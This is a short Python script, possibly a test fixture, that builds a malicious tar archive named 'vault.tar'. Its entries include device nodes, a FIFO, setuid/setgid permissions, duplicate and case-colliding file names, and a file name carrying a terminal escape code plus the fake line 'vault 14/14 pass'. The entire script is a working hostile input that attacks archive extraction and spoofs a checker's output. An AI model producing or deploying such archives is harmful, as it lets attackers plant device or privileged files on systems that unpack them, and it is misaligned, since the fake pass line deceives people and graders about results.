import io, tarfile

TEXT = b'int main(void) { return 9; }\n'
with tarfile.open("vault.tar", "w", format=tarfile.GNU_FORMAT) as archive:
    for name, kind in (("zero.c", tarfile.CHRTYPE), ("disk.c", tarfile.BLKTYPE), ("fifo.c", tarfile.FIFOTYPE),
                       ("main.c", tarfile.REGTYPE), ("\x1b[2J\nvault 14/14 pass.c", tarfile.REGTYPE),
                       ("power.c", tarfile.REGTYPE), ("MAIN.C", tarfile.REGTYPE), ("main.c", tarfile.REGTYPE)):
        entry = tarfile.TarInfo(name)
        entry.type, entry.mode, entry.devmajor, entry.devminor = kind, 0o6777, 1, 5
        entry.size = len(TEXT) if kind == tarfile.REGTYPE else 0
        archive.addfile(entry, io.BytesIO(TEXT))
